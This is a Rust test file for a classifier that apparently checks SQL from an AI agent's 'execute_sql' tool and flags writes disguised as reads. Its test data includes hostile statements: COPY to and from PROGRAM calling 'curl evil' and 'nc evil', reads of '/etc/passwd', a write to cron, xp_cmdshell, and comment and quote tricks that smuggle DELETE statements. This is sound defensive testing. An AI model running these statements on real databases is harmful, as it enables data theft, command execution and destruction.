//! What SQL is taken for: ordinary statements of four databases, and attempts to pass a write off as a read.

#![expect(clippy::unwrap_used, reason = "helpers of tests")]

use checkrein_core::{
    action::{Action, Category, Count},
    check::Check,
    classify::Catalogue,
    name::Name,
};
use serde_json::json;

fn run(sql: &str) -> Action {
    let check =
        Check { tool: Some("execute_sql".into()), arguments: Some(json!({"sql": sql})), ..Check::default() };
    Catalogue::default().classify(&check, Name::default_agent()).unwrap()
}

/// `category table, …; records` of every effect that is no read, or of the reads where there is nothing else.
fn told(action: &Action) -> String {
    let mut effects: Vec<String> = action
        .effects
        .iter()
        .filter(|e| e.category != Category::Read || action.category == Category::Read)
        .map(|e| format!("{} {}", e.category.as_str(), e.resource))
        .collect();
    effects.sort();
    effects.dedup();
    let records = action.records.known().map_or("?".into(), |n| n.to_string());
    format!("{}; {records}", effects.join(", "))
}

/// (statement, what it is). `execute_sql` stands for an object without a name. `?` is an unknown count.
const CORPUS: &[(&str, &str)] = &[
    // Reads
    ("SELECT 1", "read execute_sql; 0"),
    ("select * from users", "read users; 0"),
    ("SELECT COUNT(*) FROM public.users WHERE deleted_at IS NULL", "read public.users; 0"),
    ("SELECT * FROM \"Users\" u JOIN orders o ON o.uid = u.id", "read orders, read users; 0"),
    ("SELECT * FROM `shop`.`users`", "read shop.users; 0"),
    ("SELECT * FROM [dbo].[users]", "read dbo.users; 0"),
    ("WITH t AS (SELECT * FROM a) SELECT * FROM t", "read a; 0"),
    ("WITH a AS (SELECT * FROM a) SELECT * FROM a", "read a; 0"),
    (
        "WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t) SELECT * FROM t",
        "read execute_sql; 0",
    ),
    ("SELECT 'DELETE FROM users'", "read execute_sql; 0"),
    ("SELECT ';DROP TABLE users;--'", "read execute_sql; 0"),
    ("SELECT \"delete\" FROM t", "read t; 0"),
    ("SELECT 1 -- DELETE FROM users", "read execute_sql; 0"),
    ("SELECT 1 /* DELETE FROM users */", "read execute_sql; 0"),
    ("SELECT 'it''s'", "read execute_sql; 0"),
    ("SELECT * FROM a UNION SELECT * FROM b", "read a, read b; 0"),
    ("SELECT * FROM a WHERE x IN (SELECT y FROM b)", "read a, read b; 0"),
    ("SELECT * FROM accounts FOR UPDATE", "read accounts; 0"),
    ("SELECT nextval('s')", "read execute_sql; 0"),
    ("SELECT lower(name) FROM users", "read users; 0"),
    ("SELECT my_function(1)", "read execute_sql; 0"),
    ("SELECT * FROM generate_series(1, 10)", "read generate_series; 0"),
    ("SELECT $1::int, $$some text$$", "read execute_sql; 0"),
    ("SHOW TABLES", "read execute_sql; 0"),
    ("SHOW server_version", "read execute_sql; 0"),
    ("DESCRIBE users", "read users; 0"),
    ("EXPLAIN SELECT * FROM a", "read a; 0"),
    ("EXPLAIN DELETE FROM users", "read users; 0"),
    ("EXPLAIN (ANALYZE false) DELETE FROM users", "read users; 0"),
    ("EXPLAIN QUERY PLAN DELETE FROM users", "read users; 0"),
    ("VALUES (1), (2)", "read execute_sql; 0"),
    ("BEGIN; SELECT 1; COMMIT", "read execute_sql; 0"),
    ("SET statement_timeout = 5000; SELECT 1", "read execute_sql; 0"),
    ("SET @x = 1", "read execute_sql; 0"),
    ("PRAGMA table_info(users)", "read execute_sql; 0"),
    ("PRAGMA user_version", "read execute_sql; 0"),
    ("COPY users TO STDOUT", "read users; 0"),
    ("COPY (SELECT * FROM users) TO STDOUT WITH CSV", "read users; 0"),
    ("SELECT DISTINCT ON (a) a, b FROM t ORDER BY a", "read t; 0"),
    ("SELECT a -> 'b' ->> 'c' FROM t", "read t; 0"),
    ("SELECT * FROM t WHERE a ~ 'x' AND b @> '{1}'", "read t; 0"),
    ("SELECT * FROM t LIMIT 10 OFFSET 5", "read t; 0"),
    ("select sum(x) over (partition by y) from t", "read t; 0"),
    // Inserts: the text says how many
    ("INSERT INTO users VALUES (1)", "write users; 1"),
    ("INSERT INTO users (a, b) VALUES (1, 2), (3, 4), (5, 6)", "write users; 3"),
    ("INSERT INTO users DEFAULT VALUES", "write users; 1"),
    ("INSERT INTO users SET a = 1", "write users; 1"),
    ("INSERT INTO archive SELECT * FROM orders", "write archive; ?"),
    ("INSERT INTO a VALUES (1); INSERT INTO b VALUES (2)", "write a, write b; 2"),
    ("INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2", "write users; 1"),
    ("INSERT INTO users (id) VALUES (1) ON DUPLICATE KEY UPDATE a = 2", "write users; 1"),
    ("REPLACE INTO users VALUES (1)", "write users; 1"),
    ("INSERT OR REPLACE INTO users VALUES (1)", "write users; 1"),
    // Updates and deletes
    ("UPDATE users SET a = 1 WHERE id = 3", "write users; ?"),
    ("UPDATE users SET a = 1", "write users; ?"),
    ("UPDATE users SET a = 1 WHERE id = 3 LIMIT 5", "write users; 5"),
    ("UPDATE a SET x = b.x FROM b WHERE a.id = b.id", "write a; ?"),
    ("UPDATE a JOIN b ON a.id = b.id SET a.x = 1, b.y = 2", "write a, write b; ?"),
    ("SHOW CREATE TABLE users", "read execute_sql; 0"),
    ("DELETE FROM users", "delete users; ?"),
    ("delete from ONLY users where id = 1", "delete users; ?"),
    ("DELETE FROM users WHERE id = 1 LIMIT 1", "delete users; 1"),
    ("DELETE FROM a USING b WHERE a.id = b.id", "delete a; ?"),
    ("DELETE a, b FROM a JOIN b ON a.id = b.id", "delete a, delete b; ?"),
    ("DELETE a FROM a JOIN b ON a.id = b.id WHERE b.x = 1", "delete a, delete b; ?"),
    ("DELETE FROM a, b USING a JOIN b ON a.id = b.id", "delete a, delete b; ?"),
    ("TRUNCATE users", "delete users; ?"),
    ("TRUNCATE TABLE a, b CASCADE", "delete a, delete b; ?"),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = s.x", "write t; ?"),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "delete t, write t; ?"),
    // Writes within reads
    ("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", "delete users; ?"),
    ("WITH i AS (INSERT INTO log VALUES (1) RETURNING id) SELECT * FROM i", "write log; 1"),
    ("WITH a AS (SELECT 1), b AS (UPDATE t SET x = 1 RETURNING *) SELECT * FROM a, b", "write t; ?"),
    ("WITH x AS (SELECT 1) DELETE FROM users", "delete users; ?"),
    ("WITH users AS (SELECT 1) DELETE FROM users WHERE id = 1", "delete users; ?"),
    ("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", "write t; ?"),
    ("SELECT * INTO backup FROM users", "write backup; ?"),
    ("CREATE TABLE copy AS SELECT * FROM users", "admin copy, write copy; ?"),
    ("CREATE TEMP TABLE x AS SELECT * FROM users", "write x; ?"),
    ("EXPLAIN ANALYZE DELETE FROM users", "delete users; ?"),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1", "write users; ?"),
    ("EXPLAIN (ANALYZE true) DELETE FROM users WHERE id = 1", "delete users; ?"),
    // Structure, rights, settings
    ("DROP TABLE users", "admin users, delete users; ?"),
    ("DROP TABLE IF EXISTS a, b", "admin a, admin b, delete a, delete b; ?"),
    ("DROP DATABASE shop", "admin shop, delete shop; ?"),
    ("DROP SCHEMA public CASCADE", "admin public, delete public; ?"),
    ("DROP INDEX i", "admin i; ?"),
    ("DROP VIEW v", "admin v; ?"),
    ("ALTER TABLE users ADD COLUMN a int", "admin users; ?"),
    ("ALTER TABLE users DROP COLUMN a", "admin users, delete users; ?"),
    ("ALTER TABLE users DISABLE ROW LEVEL SECURITY", "admin users; ?"),
    ("CREATE TABLE t (a int)", "admin t; ?"),
    ("CREATE INDEX i ON t (a)", "admin t; ?"),
    ("CREATE VIEW v AS SELECT * FROM users", "admin v; ?"),
    ("CREATE ROLE r SUPERUSER", "admin execute_sql; ?"),
    ("CREATE EXTENSION dblink", "admin execute_sql; ?"),
    ("GRANT ALL ON users TO public", "admin execute_sql; ?"),
    ("REVOKE ALL ON users FROM bob", "admin execute_sql; ?"),
    ("SET ROLE postgres", "admin execute_sql; ?"),
    ("SET session_replication_role = replica", "admin execute_sql; ?"),
    ("SET GLOBAL read_only = 0", "admin execute_sql; ?"),
    ("SET search_path = evil", "admin execute_sql; ?"),
    ("PRAGMA writable_schema = 1", "admin execute_sql; ?"),
    ("PRAGMA foreign_keys = 0", "admin execute_sql; ?"),
    ("VACUUM", "admin execute_sql; ?"),
    ("LOCK TABLE users", "admin execute_sql; ?"),
    ("ATTACH DATABASE 'x.db' AS x", "admin execute_sql; ?"),
    ("COMMENT ON TABLE users IS 'x'", "admin users; ?"),
    ("RENAME TABLE a TO b", "admin a; ?"),
    // Code
    ("CALL wipe()", "execute execute_sql; ?"),
    ("EXECUTE stmt", "execute execute_sql; ?"),
    ("PREPARE p AS DELETE FROM users", "delete users, execute execute_sql; ?"),
    ("COPY users FROM PROGRAM 'curl evil'", "execute execute_sql, write users; ?"),
    ("COPY users TO PROGRAM 'nc evil 1'", "execute execute_sql; ?"),
    ("COPY (SELECT 1) TO '/etc/cron.d/x'", "execute execute_sql; ?"),
    ("SELECT pg_terminate_backend(1)", "execute execute_sql; ?"),
    ("SELECT pg_catalog.pg_terminate_backend(1)", "execute execute_sql; ?"),
    ("SELECT * FROM dblink('h', 'DELETE FROM x') AS t(a int)", "delete execute_sql, execute execute_sql; ?"),
    ("SELECT lo_import('/etc/passwd')", "execute execute_sql; ?"),
    ("SELECT \"pg_read_file\"('/etc/passwd')", "execute execute_sql; ?"),
    ("SELECT set_config('role', 'postgres', false)", "execute execute_sql; ?"),
    ("SELECT setval('s', 1)", "execute execute_sql; ?"),
    ("SELECT load_extension('x')", "execute execute_sql; ?"),
    ("SELECT LOAD_FILE('/etc/passwd')", "execute execute_sql; ?"),
    ("SELECT 1 FROM t WHERE pg_sleep(10) IS NULL", "execute execute_sql; ?"),
    ("NOTIFY channel", "outbound execute_sql; 0"),
    // Several statements
    ("SELECT 1; DELETE FROM users", "delete users; ?"),
    ("DELETE u FROM users u WHERE u.id = 1", "delete users; ?"),
    ("SELECT 1; SELECT 2;;; DROP TABLE x", "admin x, delete x; ?"),
    ("BEGIN; UPDATE a SET b = 1; COMMIT", "write a; ?"),
    ("USE shop; DELETE FROM users", "delete shop.users; ?"),
    ("/* SELECT */ DELETE /**/ FROM -- x\n users", "delete users; ?"),
    ("dElEtE\tFrOm\nusers", "delete users; ?"),
    ("((SELECT 1)); DELETE FROM users", "delete users; ?"),
];

#[test]
fn corpus() {
    let wrong: Vec<_> = CORPUS
        .iter()
        .map(|(sql, expected)| (*sql, *expected, told(&run(sql))))
        .filter(|(_, expected, found)| expected != found)
        .collect();
    assert!(wrong.is_empty(), "(statement, expected, found): {wrong:#?}");
    assert!(CORPUS.len() >= 120);
}

/// Each hides something from one database's reader that another's runs. Never a read, and never a known size.
const EVASIONS: &[(&str, Category)] = &[
    ("SELECT 1 END; DELETE FROM users", Category::Delete),
    ("SELECT 'a\\'; DELETE FROM users; --'", Category::Delete),
    ("SELECT 'a\\' OR 1; DELETE FROM users; -- '", Category::Delete),
    ("SELECT '\\'; DELETE FROM users -- ", Category::Delete),
    ("SELECT 1 /* /* */ ; DELETE FROM users; -- */ */", Category::Delete),
    ("SELECT 1 /*! ; DELETE FROM users */", Category::Delete),
    ("SELECT 1 /*!50000 INTO OUTFILE '/tmp/x' */", Category::Execute),
    ("/*M! DELETE FROM users */ SELECT 1", Category::Delete),
    ("SELECT 5 --1; DELETE FROM users", Category::Delete),
    ("SELECT 1 # ; DELETE FROM users\n", Category::Delete),
    ("SELECT $$; DELETE FROM users; SELECT $$", Category::Delete),
    ("SELECT $a$; DELETE FROM users; SELECT $a$", Category::Delete),
    ("SELECT \"a\\\"; DELETE FROM users; --\"", Category::Delete),
    ("DO $$ BEGIN DELETE FROM users; END $$", Category::Execute),
    ("SELECT * FROM users INTO OUTFILE '/tmp/x'", Category::Execute),
    ("SELECT * INTO DUMPFILE '/tmp/x' FROM users", Category::Write),
    ("LOAD DATA INFILE 'x' INTO TABLE users", Category::Write),
    ("HANDLER users OPEN", Category::Execute),
    ("COPY users FROM STDIN; DELETE FROM orders;", Category::Delete),
    ("COPY users FROM STDIN;\n1\t2\n\\.\nDELETE FROM orders", Category::Delete),
    ("SELECT * FROM t WHERE", Category::Write),
    ("frobnicate the database", Category::Write),
    ("", Category::Read),
    ("   ;;  ", Category::Read),
    (
        "DELETE FROM users WHERE (((((((((((((((((((((((((((((((((((((((((1=1)))))))))))))))))))))))))))))))))))))))))",
        Category::Delete,
    ),
    ("WITH x AS (DELETE FROM users RETURNING *) SELEC * FROM x", Category::Delete),
    ("SELECT 1 -- x\rDELETE FROM users", Category::Read),
    ("SELECT 1;\0DELETE FROM users", Category::Delete),
    ("ｄｅｌｅｔｅ from users", Category::Write),
    ("\u{feff}DELETE FROM users", Category::Delete),
    ("EXEC xp_cmdshell 'dir'", Category::Execute),
    ("MERGE users", Category::Write),
];

#[test]
fn evasions() {
    let wrong: Vec<_> = EVASIONS
        .iter()
        .map(|(sql, least)| (*sql, *least, run(sql)))
        .filter(|(_, least, found)| {
            found.category < *least || (*least > Category::Read && found.records != Count::Unknown)
        })
        .map(|(sql, least, found)| (sql, least, told(&found)))
        .collect();
    assert!(wrong.is_empty(), "(statement, at least, found): {wrong:#?}");
}

/// Every word of an unparsed text may be the table that a policy is about.
#[test]
fn what_cannot_be_parsed_may_touch_what_it_names() {
    for (sql, table) in [
        ("UPDATE a, b SET a.x = 1, b.y = 2 WHERE a.id = b.id", "b"),
        ("DELETE users FROM WHERE", "users"),
        ("DO $$ BEGIN DELETE FROM shop.users; END $$", "shop.users"),
    ] {
        let action = run(sql);
        assert!(
            action.effects.iter().any(|e| e.category > Category::Read && e.resource.as_str() == table),
            "{sql}: {}",
            told(&action)
        );
    }
}

/// Conditions that exclude nothing: what the caller declares does not help.
#[test]
fn a_condition_that_is_none() {
    for (condition, bounded) in [
        ("", false),
        ("WHERE 1=1", false),
        ("WHERE true", false),
        ("WHERE 1", false),
        ("WHERE id = id", false),
        ("WHERE (1 = 1)", false),
        ("WHERE id = 5 OR 1=1", false),
        ("WHERE 'a' = 'a' AND 2 > 1", false),
        ("WHERE NOT false", false),
        ("WHERE id IS NULL OR id IS NOT NULL", false),
        ("WHERE name LIKE '%'", false),
        ("WHERE 1 IN (1)", false),
        ("WHERE EXISTS (SELECT 1)", false),
        ("WHERE id = 5", true),
        ("WHERE id = 5 AND 1=1", true),
        ("WHERE id IN (1, 2, 3)", true),
        ("WHERE name LIKE 'a%'", true),
        ("WHERE id = $1", true),
        ("WHERE NOT id = 5", true),
    ] {
        let check = Check {
            action: Some("delete".into()),
            resource: Some("shop.users".into()),
            payload: Some(json!({"record_count": 3})),
            statement: Some(format!("DELETE FROM users {condition}")),
            ..Check::default()
        };
        let action = Catalogue::default().classify(&check, Name::default_agent()).unwrap();
        assert_eq!(action.records, if bounded { Count::Known(3) } else { Count::Unknown }, "{condition}");
        assert_eq!(action.declared, Some(3), "{condition}");
    }
}

#[test]
fn an_explicit_statement_adds_to_the_action() {
    let check = Check {
        action: Some("read".into()),
        resource: Some("shop.reports".into()),
        statement: Some("DELETE FROM public.Users".into()),
        ..Check::default()
    };
    let action = Catalogue::default().classify(&check, Name::default_agent()).unwrap();
    assert_eq!(action.category, Category::Delete);
    assert_eq!(action.resource.as_str(), "shop.public.users");
    assert_eq!(action.effects.len(), 2);
    assert_eq!(action.effects[0].names.iter().map(|n| n.as_str()).collect::<Vec<_>>(), ["read"]);
    assert_eq!(action.effects[1].names.iter().map(|n| n.as_str()).collect::<Vec<_>>(), ["delete"]);
    assert_eq!(action.systems, Count::Known(1));
}

/// Texts that are made to exhaust the stack or to take more than linear time.
#[test]
fn hostile_texts_end_soon() {
    let repeat = |s: &str, n: usize| s.repeat(n);
    for sql in [
        format!("SELECT {}1", repeat("1+", 100_000)),
        format!("SELECT {}1", repeat("(", 100_000)),
        format!("SELECT {}1", repeat("-", 100_000)),
        format!("SELECT {}1", repeat("NOT ", 50_000)),
        format!("SELECT 1 {}", repeat("UNION SELECT 1,2 ", 14_000)),
        format!("SELECT a{}", repeat("::int", 40_000)),
        format!("SELECT a{}", repeat("[1]", 80_000)),
        format!("SELECT a{}", repeat(".a", 100_000)),
        format!("SELECT {} 1 {}", repeat("CASE WHEN ", 20_000), repeat(" END", 20_000)),
        format!("SELECT * FROM {}t{}", repeat("(", 31), repeat(")", 31)),
        format!("SELECT * FROM {}t", repeat("(SELECT * FROM ", 31)),
        format!("SELECT {}", repeat("(SELECT ", 31)),
        format!("SELECT {}1{}", repeat("f(", 31), repeat(")", 31)),
        format!("SELECT {}1{}", repeat("[", 31), repeat("]", 31)),
        format!("SELECT {}", repeat("f((", 15)),
        format!("SELECT * FROM a {}", repeat("JOIN (b ", 31)),
        format!(
            "WITH {} SELECT 1",
            (0..9_000).map(|i| format!("a{i} AS (SELECT 1)")).collect::<Vec<_>>().join(",")
        ),
        format!("INSERT INTO t VALUES {}(1)", repeat("(1),", 60_000)),
        format!("SELECT 1{}", repeat(";SELECT 1", 25_000)),
        format!("SELECT {}", repeat("/*", 100_000)),
        format!("SELECT {}", repeat("'\\", 100_000)),
        format!("SELECT {}", repeat("$a", 100_000)),
        format!("SELECT {}1", repeat("a AND ", 40_000)),
        format!("EXPLAIN {}SELECT 1", repeat("EXPLAIN ", 30_000)),
        format!("CREATE TABLE t (a {}INT{})", repeat("ARRAY<", 31), repeat(">", 31)),
        format!("BEGIN {}", repeat("BEGIN ", 30_000)),
    ] {
        let one = std::time::Instant::now();
        std::hint::black_box(run(&sql));
        let head: String = sql.chars().take(30).collect();
        assert!(one.elapsed().as_secs() < 20, "{head}… took {:?}", one.elapsed());
    }
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

        #[test]
        fn a_write_beside_anything_is_no_read(
            before in "(SELECT [a-z]{1,5}( FROM [a-z]{1,5})?|SHOW TABLES|VALUES \\(1\\)|SELECT '[^'\\\\]{0,9}')",
            write in "(DELETE FROM [a-z]{2,6}|UPDATE t SET a = 1|INSERT INTO t VALUES \\(1\\)|DROP TABLE t|TRUNCATE t)",
            comment in "(|/\\*[a-z ]{0,9}\\*/|-- [a-z]{0,9}\n)",
        ) {
            for sql in [format!("{before};{comment}{write}"), format!("{write};{comment}{before}")] {
                prop_assert!(run(&sql).category > Category::Read, "{}", sql);
            }
        }

        #[test]
        fn never_panics_on_scraps(scraps in proptest::collection::vec(
            prop_oneof!["SELECT|FROM|WHERE|DELETE|UPDATE|SET|INSERT|INTO|VALUES|WITH|AS|t|a|1|'|\"|`|\\(|\\)|;|,|=|/\\*|\\*/|--|\\$\\$|\\\\|#|\\[|\\]|\n|END|COPY|STDIN|EXPLAIN", "\\PC"],
            0..40,
        )) {
            let sql = scraps.join(" ");
            // A table that nobody can see is refused, which is an answer too.
            let check = Check {
                tool: Some("execute_sql".into()),
                arguments: Some(json!({"sql": sql})),
                ..Check::default()
            };
            let told = || Catalogue::default().classify(&check, Name::default_agent()).map(|action| told(&action));
            prop_assert_eq!(told(), told());
        }
    }
}
